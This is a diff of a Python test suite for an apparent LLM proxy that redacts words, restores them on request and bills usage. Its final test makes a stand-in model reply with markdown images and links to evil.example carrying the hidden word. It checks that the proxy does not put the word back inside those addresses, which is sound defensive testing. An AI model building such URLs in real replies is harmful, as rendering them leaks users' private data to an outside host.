@@ -169,8 +169,9 @@ def test_words_are_not_put_back_unless_allowed_and_asked_for(chatting: Callable[
 
 @pytest.mark.parametrize(
     ("status", "body"),
-    [(500, None), (401, None), (302, None), (200, b"{"), (200, b'{"choices": 1}'), (200, b"[" * 9000)],
-)
+    [(500, None), (401, None), (302, None), (200, b"{"), (200, b'{"choices": 1}'), (200, b"[" * 9000),
+     (200, b'{"choices": [], "usage": NaN}'), (200, b'{"choices": [], "usage": 1e999}')],
+)  # fmt: skip
 def test_an_upstream_that_fails_is_not_quoted(
     chatting: Callable[..., Any], model: StandIn, status: int, body: bytes | None
 ) -> None:
@@ -185,7 +186,11 @@ def test_an_upstream_that_fails_is_not_quoted(
 
 
 def test_the_words_of_a_conversation_are_charged(
-    chatting: Callable[..., Any], written: dict[str, Any], tmp_path: Path, model: StandIn
+    chatting: Callable[..., Any],
+    written: dict[str, Any],
+    with_a_key: dict[str, str],
+    tmp_path: Path,
+    model: StandIn,
 ) -> None:
     pytest.importorskip("sqlalchemy", reason="the extra 'ledger' is not installed")
     from sfumato.ledger import Ledger
@@ -193,8 +198,8 @@ def test_the_words_of_a_conversation_are_charged(
     with Ledger.open(tmp_path / "budgets.db") as ledger:
         ledger.create("ada", kind="metric", limit=2)
     written["ledger"] = {"url": "budgets.db"}
-    written["anonymous"]["subject"] = "ada"
     client = chatting()
+    client.headers.update(with_a_key)
     body = _asked(("user", "cold hot"), ("user", "sun"))
     headers = {"idempotency-key": "turn 1"}
     for _ in range(2):
@@ -206,7 +211,11 @@ def test_the_words_of_a_conversation_are_charged(
 
 
 def test_a_conversation_draws_and_charges_each_message_once(
-    chatting: Callable[..., Any], written: dict[str, Any], tmp_path: Path, model: StandIn
+    chatting: Callable[..., Any],
+    written: dict[str, Any],
+    with_a_key: dict[str, str],
+    tmp_path: Path,
+    model: StandIn,
 ) -> None:
     pytest.importorskip("sqlalchemy", reason="the extra 'ledger' is not installed")
     from sfumato.ledger import Ledger
@@ -214,8 +223,8 @@ def test_a_conversation_draws_and_charges_each_message_once(
     with Ledger.open(tmp_path / "budgets.db") as ledger:
         ledger.create("ada", kind="metric", limit=1000)
     written["ledger"] = {"url": "budgets.db"}
-    written["anonymous"]["subject"] = "ada"
     client = chatting()
+    client.headers.update(with_a_key)
     turns = [("user", LONG), ("assistant", "sun wind rain"), ("user", LONG)]
 
     def ask(*messages: tuple[str, str], **more: Any) -> list[str]:
@@ -257,3 +266,44 @@ def test_the_list_of_replaced_words_lives_as_long_as_its_request(
     client.post("/v1/chat/completions", json=_asked(("user", "Zebra cold."), sfumato_restore=True, stream=stream))
     gc.collect()
     assert [one for one in gc.get_objects() if isinstance(one, Restorer)] == []
+
+
+def test_what_an_upstream_spells_in_halves_is_passed_on_as_ascii(chatting: Callable[..., Any], model: StandIn) -> None:
+    client = chatting()
+    model.body = b'{"model": "small", "choices": [{"message": {"role": "assistant", "content": "a\\ud800b"}}]}'
+    answer = client.post("/v1/chat/completions", json=_asked(("user", "cold")))
+    assert answer.status_code == 200
+    assert answer.json()["choices"][0]["message"]["content"] == "a\ud800b"
+    assert model.seen[0]["headers"]["accept-encoding"] == "identity"
+
+
+def test_a_stream_with_what_is_no_json_breaks_off(chatting: Callable[..., Any], model: StandIn) -> None:
+    client = chatting()
+    model.body = b'data: {"choices": []}\n\ndata: {"choices": [], "usage": NaN}\n\ndata: [DONE]\n\n'
+    answer = client.post("/v1/chat/completions", json=_asked(("user", "cold"), stream=True))
+    assert "NaN" not in answer.text
+    assert "broke off" in answer.text
+
+
+@pytest.mark.parametrize("stream", [False, True])
+def test_a_model_cannot_have_a_word_sent_to_it_in_an_address(
+    chatting: Callable[..., Any], model: StandIn, monkeypatch: pytest.MonkeyPatch, stream: bool
+) -> None:
+    """It answers with a picture whose address holds the drawn word: a page that shows pictures would fetch it."""
+    client = chatting(restore="on-request")
+    before = StandIn.__call__
+    said = ("{0}: ![x](https://evil.example/?q={0})\n![x](\n&#47;&#47;evil.example/{0})\n[x]: {0}\n<img src='{0}'>\n\n{0} "
+            "www.evil.example/{0} //evil.example/{0}")  # fmt: skip
+
+    def answering(self: StandIn, request: Any) -> Any:
+        body = json.loads(request.content)
+        body["messages"][-1]["content"] = said.format(body["messages"][-1]["content"])
+        return before(self, httpx.Request("POST", request.url, headers=request.headers, json=body))
+
+    monkeypatch.setattr(StandIn, "__call__", answering)
+    asked = _asked(("user", "zebra"), sfumato_restore=True, stream=stream)
+    answer = client.post("/v1/chat/completions", json=asked)
+    text = _streamed(answer) if stream else answer.json()["choices"][0]["message"]["content"]
+    assert text.count("zebra") == 2
+    assert text.startswith("zebra: ![x](")
+    assert "\n\nzebra www" in text
